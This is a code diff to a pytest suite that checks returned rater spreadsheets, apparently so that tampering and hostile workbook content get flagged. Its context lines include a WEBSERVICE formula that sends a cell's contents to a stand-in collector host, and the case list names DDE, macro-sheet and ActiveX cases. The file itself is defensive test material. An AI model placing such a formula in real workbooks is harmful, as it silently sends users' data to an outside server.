@@ -16,6 +16,7 @@ from pathlib import Path
 
 import openpyxl
 import pytest
+from openpyxl.comments import Comment
 from openpyxl.formatting.rule import FormulaRule
 from openpyxl.workbook.defined_name import DefinedName
 from roundtrip_helpers import fill_openpyxl, plan_answers
@@ -269,6 +270,15 @@ def batch(tmp_path_factory):
         "error-value": (_error(count), "error-value"),
         "sheet-copied": (lambda wb: wb.copy_worksheet(wb[L.SCORING_SHEET]),
                          "sheet-duplicated"),
+        # what a rater adds or changes outside the pack's design, never read
+        "notes-sheet-added": (lambda wb: wb.create_sheet("My notes").__setitem__(
+            "A1", "case 3 looked odd"), "sheet-added"),
+        "instructions-deleted": (lambda wb: wb.remove(wb[L.MORE_SHEET]), "sheet-deleted"),
+        "instructions-hidden": (lambda wb: setattr(wb[L.INSTRUCTIONS_SHEET], "sheet_state",
+                                                   "hidden"), "sheet-visibility-changed"),
+        "comment-on-answer": (lambda wb: setattr(wb[L.SCORING_SHEET][count], "comment",
+                                                 Comment("unsure", "rater")),
+                              "cell-comment"),
         # what acts when the returned original is opened in Excel, outside answer cells
         "webservice-text-line": (_put(L.SCORING_SHEET, "H10", '=WEBSERVICE('
                                       '"https://collector.example/?"&C13)'),
@@ -372,7 +382,8 @@ CASES = ["out-of-domain", "trailing-space", "five-point-zero-text", "number-as-t
          "bytes-\\xff", "line\\x0abreak", "webservice-text-line", "hyperlink-instructions",
          "external-ref-hidden-sheet", "dde-formula", "leaky-name", "leaky-rule",
          "external-link-part", "linked-picture", "data-connection", "query-table",
-         "ole-object", "activex", "macro-sheet"]
+         "ole-object", "activex", "macro-sheet", "notes-sheet-added", "instructions-deleted",
+         "instructions-hidden", "comment-on-answer"]
 
 
 @pytest.mark.parametrize("kind", CASES)
